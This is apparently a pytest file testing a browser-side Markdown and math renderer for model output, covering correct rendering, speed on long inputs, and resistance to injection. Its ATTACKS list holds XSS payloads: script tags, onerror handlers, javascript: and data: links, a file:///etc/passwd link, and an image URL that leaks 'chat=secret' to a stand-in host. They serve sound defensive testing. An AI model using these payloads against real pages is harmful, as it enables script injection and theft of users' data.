"""What a model writes, as the page shows it: Markdown and formulas right, and nothing ever executed, loaded or made into markup."""

from __future__ import annotations

import random

import pytest

READ = """async (texts) => {
  const { Prose } = await import("./page/markdown.js");
  const outline = (node) => node.nodeType === 3 ? node.data
    : `${node.localName}(${[...node.childNodes].filter((one) => one.localName !== "figcaption").map(outline).join(" ")})`;
  return texts.map((text) => { const prose = new Prose(); prose.show(text); return [...prose.element.childNodes].map(outline).join(" "); });
}"""

CASES = {
    "a\nb": "p(a br() b)",
    "a\n\nb": "p(a) p(b)",
    "# 一\n### 三 ###": "h3(一) h5(三)",
    "题\n===": "h3(题)",
    "**重点：**下文": "p(strong(重点：) 下文)",
    "**“引”**和*斜*、~~删~~": "p(strong(“引”) 和 em(斜) 、 del(删))",
    "***两者***": "p(em(strong(两者)))",
    "**外*内*外**": "p(strong(外 em(内) 外))",
    "2*3*4 和 2 * 3, a_b_c, **未完": "p(2*3*4 和 2 * 3, a_b_c, **未完)",
    r"\*不斜\* &lt;b&gt; &#20013; &bogus;": "p(*不斜* <b> 中 &bogus;)",
    "`a*b*` ``c`d`` `未完": "p(code(a*b*)   code(c`d)  `未完)",
    "- 一\n- 二\n  - 三\n\n    四\n5. 五\n6. 六": "ul(li(span(一)) li(span(二) ul(li(p(三) p(四))))) ol(li(span(五)) li(span(六)))",
    "1) 一\n\n2) 二": "ol(li(p(一)) li(p(二)))",
    "- [x] 完\n- [ ] 未": "ul(li(span(svg(path())) span(完)) li(span() span(未)))",
    "> 一\n> > 二": "blockquote(p(一) blockquote(p(二)))",
    "---\n***": "hr() hr()",
    "| a | b |\n|:-:|--|\n| `x|y` | 2 |\n| 3 |": (
        "div(table(thead(tr(th(a) th(b))) tbody(tr(td(code(x|y)) td(2)) tr(td(3) td()))))"
    ),
    "a | b\nc": "p(a | b br() c)",
    "```\n<b>\n\n# x\n```\n后": "figure(pre(code(<b>\n\n# x))) p(后)",
    "~~~py\nx = 1": "figure(pre(code(x  =  span(1))))",
    "文\n```\nx\n```": "p(文) figure(pre(code(x)))",
    "[文](https://example.org/a_(b)) <https://example.org> https://example.org/x。后": (
        "p(a(文)   a(https://example.org)   a(https://example.org/x) 。后)"
    ),
    "[坏](javascript:alert(1)) [相对](/v1/models) [数据](data:text/html,x)": (
        "p([坏](javascript:alert(1))   [相对](/v1/models)   [数据](data:text/html,x))"
    ),
    "![图](https://example.org/x.png)": "p(a(span(Image, not loaded: ) 图))",
    "$x_1^2$ 值 5$ 和 6$ 元": "p(math(mrow(msubsup(mi(x) mn(1) mn(2))))  值 5$ 和 6$ 元)",
    "$$\n\\frac{a}{b}\n$$": "math(mrow(mfrac(mrow(mi(a)) mrow(mi(b)))))",
    r"\(\sqrt[3]{x}\) \[\alpha\]": "p(math(mrow(mroot(mrow(mi(x)) mrow(mn(3)))))   math(mrow(mi(α))))",
    r"$\nosuch{x}$": r"p(math(mrow(mtext(\nosuch) mrow(mi(x)))))",
    r"$\frac{a$": r"p(code(\frac{a))",
    r"$\begin{pmatrix}1&2\\3&4\end{pmatrix}$": (
        "p(math(mrow(mrow(mo(() mtable(mtr(mtd(mrow(mn(1))) mtd(mrow(mn(2)))) mtr(mtd(mrow(mn(3))) mtd(mrow(mn(4))))) mo())))))"
    ),
    "$$\\sum_{i=1}^n f'(x)$$": "math(mrow(munderover(mo(∑) mrow(mi(i) mo(=) mn(1)) mi(n)) msup(mi(f) mrow(mo(′))) mo(() mi(x) mo())))",
}  # fmt: skip


def test_markdown_and_formulas_are_read(still):
    assert dict(zip(CASES, still.evaluate(READ, list(CASES)), strict=True)) == CASES


ATTACKS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg/onload=window.hit=1><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href='javascript:window.hit=1'>x</a><form action=javascript:window.hit=1><button>",
    "[x](javascript:window.hit=1) [x](JaVaScRiPt:window.hit=1) [x](\tjavascript:window.hit=1) [x](java\nscript:window.hit=1)",
    "[x](data:text/html,<script>1</script>) [x](vbscript:1) [x](file:///etc/passwd) [x](//evil.test/x) [x](\\\\evil.test)",
    "[x](https://evil.test/\"onmouseover=\"window.hit=1) <https://evil.test/'onclick='window.hit=1>",
    "![x](https://evil.test/pixel.png?chat=secret) ![x](javascript:window.hit=1)",
    "[![x](https://evil.test/a.png)](javascript:window.hit=1)",
    '```html\n<script>window.hit = 1</script>\n```\n```"><script>window.hit=1</script>\nx\n```',
    "``` <img src=x onerror=window.hit=1>\nx\n```",
    "| <script>window.hit=1</script> | [x](javascript:1) |\n|---|---|\n| <img src=x onerror=window.hit=1> | `</code><script>` |",
    "> - **<b onclick=window.hit=1>[x](javascript:window.hit=1)**\n>   1. # <style>@import 'https://evil.test'</style>",
    r"$\text{<script>window.hit=1</script>}$ $\href{javascript:window.hit=1}{x}$ $\unicode{<img>}$ $$\begin{<script>}x\end{<script>}$$",
    r"$\class{x}{y} \style{background:url(https://evil.test)}{x} \includegraphics{https://evil.test/x}$",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62;",
    "[x]: javascript:window.hit=1\n\n[x] <base href=https://evil.test> <meta http-equiv=refresh content='0;url=https://evil.test'>",
    "__proto__ constructor\n```__proto__\nx\n```\n```constructor\nx\n```",
    "$\\constructor \\toString \\__proto__ \\hasOwnProperty$ $\\left\\constructor x\\right.$",
    "\u202e\u0000\ufeff\ud83d <\u0000script>window.hit=1</script>",
]
ALLOWED_TAGS = {
    "div", "p", "h3", "h4", "h5", "h6", "hr", "blockquote", "ul", "ol", "li", "span", "table", "thead", "tbody", "tr", "th", "td",
    "figure", "figcaption", "button", "svg", "path", "pre", "code", "a", "strong", "em", "del", "br", "math", "mrow", "mi", "mo", "mn",
    "mtext", "mspace", "msup", "msub", "msubsup", "munder", "mover", "munderover", "mfrac", "msqrt", "mroot", "mtable", "mtr", "mtd",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "class", "href", "title", "target", "rel", "tabindex", "start", "type", "role", "aria-label", "aria-hidden", "viewBox", "d",
    "display", "mathvariant", "stretchy", "largeop", "movablelimits", "data-limits", "accent", "width", "displaystyle", "linethickness",
    "lspace", "rspace", "form", "fence", "linebreak",
}  # fmt: skip
INSPECT = """async (texts) => {
  const { Prose } = await import("./page/markdown.js");
  const shelf = document.getElementById("transcript");
  const [tags, attributes, links] = [new Set(), new Set(), new Set()];
  let unequal = null;
  for (const text of texts) {
    const [grown, whole] = [new Prose(), new Prose()];
    for (let end = 0; end < text.length; end += 1 + Math.floor(text.length / 7)) grown.show(text.slice(0, end));
    grown.show(text);
    whole.show(text);
    if (!grown.element.isEqualNode(whole.element)) unequal = text;
    shelf.replaceChildren(whole.element);
    for (const element of whole.element.querySelectorAll("*")) {
      tags.add(element.localName);
      for (const attribute of element.attributes) attributes.add(attribute.name);
      if (element.localName === "a") links.add(`${new URL(element.href).protocol} ${element.rel} ${element.target}`);
      element.click?.();
      element.dispatchEvent(new Event("mouseover"));
    }
  }
  return { tags: [...tags], attributes: [...attributes], links: [...links], unequal, hit: window.hit ?? null };
}"""


def is_inert(found):
    assert set(found["tags"]) <= ALLOWED_TAGS and set(found["attributes"]) <= ALLOWED_ATTRIBUTES
    assert {link.split()[0] for link in found["links"]} <= {"http:", "https:"}
    assert all("noopener" in link and link.endswith("_blank") for link in found["links"])
    assert found["hit"] is None and found["unequal"] is None


def test_attacks_are_text(still):
    still.evaluate("document.addEventListener('click', (event) => event.preventDefault())")  # links are inspected, not followed
    is_inert(still.evaluate(INSPECT, ATTACKS))


@pytest.mark.parametrize("seed", range(3))
def test_random_mixtures_are_text_and_grow_to_what_they_are_at_once(still, seed):
    still.evaluate("document.addEventListener('click', (event) => event.preventDefault())")
    draw = random.Random(seed)
    parts = [piece for attack in ATTACKS for piece in attack.replace("<", "\0<").replace("[", "\0[").replace("$", "\0$").split("\0")]
    parts += [
        "\n",
        "\n\n",
        "- ",
        "  ",
        "> ",
        "1. ",
        "| ",
        "|--|\n",
        "**",
        "*",
        "_",
        "`",
        "```",
        "$",
        "$$",
        "\\",
        "[",
        "](",
        ")",
        "{",
        "}",
        "中文",
        "a ",
    ]
    texts = ["".join(draw.choice(parts) for _ in range(draw.randint(2, 30))) for _ in range(700)]
    is_inert(still.evaluate(INSPECT, texts))


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "*a ",
        "**",
        "_a",
        "`" * 3 + "\n",
        "`a",
        "$",
        "$$\n",
        "\\[\n",
        "\\(",
        "> ",
        "- ",
        "  - a\n",
        "| a ",
        "{",
        "![",
        "&#",
        "<",
        "~~a",
        "\\frac",
    ],
)
def test_long_hostile_texts_are_read_soon(still, unit):
    """Forty thousand repetitions within seconds: nothing grows with the square of the length, nothing nests without end."""
    took = still.evaluate(
        """async (unit) => {
          const { Prose } = await import("./page/markdown.js");
          const begun = performance.now();
          new Prose().show(unit.repeat(40000));
          return performance.now() - begun;
        }""",
        unit,
    )
    assert took < 20_000
